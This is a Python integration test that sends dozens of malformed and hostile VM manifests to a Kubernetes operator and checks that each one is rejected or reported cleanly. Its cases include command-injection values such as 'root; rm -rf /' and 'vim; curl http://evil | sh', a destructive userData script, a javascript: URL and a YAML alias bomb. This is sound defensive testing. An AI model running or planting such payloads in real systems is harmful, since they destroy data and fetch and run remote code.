"""Hostile UDSVirtualMachines at volume: wrong types, values at and past every limit, unicode, control
characters, deeply nested and alias-bombed userData, broken metadata — ≥ 50 distinct cases.

Every case must end one of two ways: the API server rejects it (400/422 with a message) or the operator
writes a status (a ``Failed`` phase with a readable ``Ready`` condition, or a normal phase when the input
was odd but valid). Never a crash, a hang or a traceback; the operator's peak memory stays bounded, and a
valid VM created afterwards still converges. (``test_operator_invalid_specs.py`` holds 27 ordinary
mistakes; these are the hostile ones.)
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.integration.operator_fixtures import (
    api,
    operator,
    release_pvcs,
    status_of,
    udsvm,
    vm_path,
    wait_phase,
)
from tests.integration.operator_harness import Api, OperatorProcess
from tests.kube_helpers import wait_for

__all__ = ["api", "operator"]  # fixtures used by name

PEAK_RSS_LIMIT_MIB = 300
LINUX_USER = {"name": "ops", "sshAuthorizedKeys": ["ssh-ed25519 AAAA ops@site"]}
Mutation = Callable[[dict[str, Any]], None]


def _spec(**changes: Any) -> Mutation:
    def mutate(manifest: dict[str, Any]) -> None:
        for key, value in copy.deepcopy(changes).items():
            manifest["spec"][key] = value

    return mutate


def _set(path: str, value: Any) -> Mutation:
    """Set a dotted path from the manifest root (creating mappings on the way)."""

    def mutate(manifest: dict[str, Any]) -> None:
        *parents, leaf = path.split(".")
        node = manifest
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = copy.deepcopy(value)

    return mutate


def _user_data(text: str) -> Mutation:
    return _set("spec.cloudInit.userData", text)


def _nested_unknown(depth: int) -> dict[str, Any]:
    node: dict[str, Any] = {}
    for _ in range(depth):
        node = {"n": node}
    return node


def _billion_laughs() -> str:
    text = '#cloud-config\nlol0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for level in range(1, 10):
        refs = ",".join([f"*l{level - 1}"] * 9)
        text += f"lol{level}: &l{level} [{refs}]\n"
    return text


CASES: list[tuple[str, Mutation]] = [
    # whole-object and metadata
    ("spec-is-string", _set("spec", "hello")),
    ("spec-is-list", _set("spec", [1, 2, 3])),
    ("spec-is-empty", _set("spec", {})),
    ("label-value-too-long", _set("metadata.labels", {"team": "x" * 64})),
    ("label-key-unicode", _set("metadata.labels", {"tëam": "blue"})),
    ("annotations-over-256k", _set("metadata.annotations", {"blob": "x" * (300 * 1024)})),
    ("deep-unknown-field", _spec(extra=_nested_unknown(120))),
    ("unknown-nested-in-disk", _set("spec.disk.colour", "blue")),
    # wrong types
    ("source-is-string", _spec(source="https://images/disk.qcow2")),
    ("source-is-list", _spec(source=[{"upload": {}}])),
    ("http-url-number", _spec(source={"http": {"url": 42}})),
    ("checksum-number", _spec(source={"upload": {"checksum": 123456}})),
    ("disk-is-list", _spec(disk=["10Gi"])),
    ("virtual-size-bool", _spec(disk={"virtualSize": True})),
    ("virtual-size-float", _spec(disk={"virtualSize": 1.5})),
    ("cpu-string", _spec(resources={"cpu": "two", "memory": "1Gi"})),
    ("cpu-float", _spec(resources={"cpu": 1.5, "memory": "1Gi"})),
    ("cpu-huge", _spec(resources={"cpu": 10**15, "memory": "1Gi"})),
    ("cpu-negative", _spec(resources={"cpu": -1, "memory": "1Gi"})),
    ("memory-object", _spec(resources={"cpu": 1, "memory": {"gi": 1}})),
    ("run-strategy-number", _spec(runStrategy=1)),
    ("live-migration-string", _spec(liveMigration="yes")),
    ("data-disks-object", _spec(dataDisks={"a": {"size": "1Gi"}})),
    ("network-string", _spec(network="open")),
    ("cloudinit-string", _spec(cloudInit="#cloud-config")),
    ("firmware-tpm-string", _spec(firmware={"tpm": "yes"})),
    # values at and past the limits
    ("data-disks-17", _spec(dataDisks=[{"name": f"d{i}", "size": "1Gi"} for i in range(17)])),
    ("data-disk-name-unicode", _spec(dataDisks=[{"name": "dätä", "size": "1Gi"}])),
    ("data-disk-size-absurd", _spec(dataDisks=[{"name": "big", "size": "999999999999999Ei"}])),
    ("data-disk-size-zero", _spec(dataDisks=[{"name": "zero", "size": "0"}])),
    ("virtual-size-absurd", _spec(disk={"virtualSize": "99999999999999999999Ei"})),
    ("overhead-negative", _spec(disk={"virtualSize": "10Mi", "overheadPercent": -1})),
    ("allow-cidr-invalid", _set("spec.network.allow", [{"direction": "Ingress", "cidr": "999.1.1.1/99"}])),
    (
        "allow-33-rules",
        _set("spec.network.allow", [{"direction": "Ingress", "cidr": "10.0.0.0/8"} for _ in range(33)]),
    ),
    ("expose-port-zero", _set("spec.network.expose", [{"port": 0}])),
    ("expose-port-70000", _set("spec.network.expose", [{"port": 70000}])),
    ("expose-name-too-long", _set("spec.network.expose", [{"port": 22, "name": "a" * 16}])),
    ("http-url-2049-chars", _spec(source={"http": {"url": "https://x/" + "a" * 2040}})),
    ("http-url-javascript", _spec(source={"http": {"url": "javascript:alert(1)"}})),
    ("registry-url-http", _spec(source={"registry": {"url": "http://registry/image"}})),
    ("datasource-name-slash", _spec(source={"dataSource": {"name": "a/b"}})),
    ("datasource-namespace-unicode", _spec(source={"dataSource": {"name": "img", "namespace": "nämespace"}})),
    ("ssh-key-not-a-key", _set("spec.cloudInit.sshAuthorizedKeys", ["hello there"])),
    ("ssh-key-4097-chars", _set("spec.cloudInit.sshAuthorizedKeys", ["ssh-" + "a" * 4093])),
    ("ssh-keys-33", _set("spec.cloudInit.sshAuthorizedKeys", [f"ssh-ed25519 AAAA{i} k" for i in range(33)])),
    ("user-name-injection", _set("spec.cloudInit.users", [{**LINUX_USER, "name": "root; rm -rf /"}])),
    ("package-injection", _set("spec.cloudInit.packages", ["vim; curl http://evil | sh"])),
    ("packages-65", _set("spec.cloudInit.packages", [f"pkg{i}" for i in range(65)])),
    ("reboot-window-25h", _set("spec.cloudInit.autoUpdate", {"rebootWindow": "25:00"})),
    ("apt-mirror-ftp", _set("spec.cloudInit.autoUpdate", {"aptMirror": "ftp://mirror"})),
    # userData: size, structure, encoding
    ("userdata-32769-chars", _user_data("#cloud-config\n#" + "a" * 32754)),
    ("userdata-at-limit", _user_data("#cloud-config\n#" + "a" * 32753)),
    ("userdata-nested-lists-5000", _user_data("a: " + "[" * 5000 + "]" * 5000)),
    (
        "userdata-nested-maps-100",
        _user_data("".join(f"{' ' * i}k{i}:\n" for i in range(100)) + " " * 100 + "v"),
    ),
    ("userdata-billion-laughs", _user_data(_billion_laughs())),
    ("userdata-not-yaml", _user_data("#cloud-config\nkey: [unclosed\n  - {")),
    ("userdata-script", _user_data("#!/bin/sh\nrm -rf /\n")),
    ("userdata-list", _user_data("- a\n- b\n")),
    (
        "userdata-unicode",
        _user_data("#cloud-config\nwrite_files:\n- path: /etc/motd\n  content: 'héllo 🚀 مرحبا'\n"),
    ),
    ("userdata-control-chars", _user_data('#cloud-config\nmotd: "\\u0007\\u001b[31mred\\u0000"\n')),
    (
        "userdata-sshd-override",
        _user_data("#cloud-config\nwrite_files:\n- path: /etc/ssh/sshd_config\n  content: x\n"),
    ),
    # windows
    ("windows-name-unicode", _spec(os="windows", cloudInit=None, windows={"computerName": "SËRVER"})),
    ("windows-image-index-0", _spec(os="windows", cloudInit=None, windows={"imageIndex": 0})),
]


def _peak_rss_mib(operator: OperatorProcess) -> float:
    assert operator.process is not None
    for line in Path(f"/proc/{operator.process.pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def test_hostile_crs_are_rejected_or_reported_and_the_operator_stays_healthy(
    api: Api, operator: OperatorProcess, namespace: str
) -> None:
    try:
        _exercise(api, operator, namespace)
    finally:
        operator.stop()
        release_pvcs(api, namespace)


def _exercise(api: Api, operator: OperatorProcess, namespace: str) -> None:
    names = [name for name, _ in CASES]
    assert len(set(names)) == len(names) >= 50
    rejected: dict[str, str] = {}
    accepted: list[str] = []
    for name, mutate in CASES:
        manifest = udsvm(name, namespace)
        mutate(manifest)
        code, body = api.create(manifest, vm_path(namespace))
        if code in (400, 422):
            message = str((body or {}).get("message") if isinstance(body, dict) else body)
            assert message, f"{name}: rejected without a message"
            rejected[name] = message
        else:
            assert code == 201, f"{name}: HTTP {code} {body}"
            accepted.append(name)

    def all_have_status() -> bool:
        return all(status_of(api, namespace, name).get("phase") for name in accepted)

    try:
        wait_for(all_have_status, 60, 0.5, what="a status on every accepted hostile VM")
    except AssertionError:
        missing = [name for name in accepted if not status_of(api, namespace, name).get("phase")]
        raise AssertionError(f"no status on {missing}") from None
    outcomes: dict[str, str] = {}
    for name in accepted:
        status = status_of(api, namespace, name)
        outcomes[name] = status["phase"]
        assert "Traceback" not in str(status), f"{name}: a traceback leaked into the status"
        if status["phase"] == "Failed":
            ready = next(c for c in status["conditions"] if c["type"] == "Ready")
            assert ready["status"] == "False" and ready["message"], f"{name}: {ready}"
    print(f"rejected by the API server ({len(rejected)}): {sorted(rejected)}")
    print(f"accepted, operator outcome ({len(accepted)}): {outcomes}")
    # The hostile userData cases pass the schema (a string within its limit) and must be refused by the
    # operator with a reason, not retried forever on a RecursionError or expanded into gigabytes.
    # Specs the schema admits but Kubernetes cannot honour (a CIDR NetworkPolicy rejects, a zero-size PVC,
    # a disk beyond int64 bytes) are reported as Failed, not retried silently with no status.
    must_fail = ("userdata-nested-lists-5000", "userdata-nested-maps-100", "userdata-not-yaml")
    must_fail += ("allow-cidr-invalid", "data-disk-size-zero", "virtual-size-absurd")
    for name in must_fail:
        assert outcomes.get(name) == "Failed", f"{name}: {status_of(api, namespace, name)}"

    assert operator.healthy()
    api.apply(udsvm("valid", namespace), vm_path(namespace, "valid"))
    wait_phase(api, operator, namespace, "valid", "Pending")
    logs = operator.logs(10**8)
    assert "Traceback" not in logs and "RecursionError" not in logs
    assert _peak_rss_mib(operator) < PEAK_RSS_LIMIT_MIB
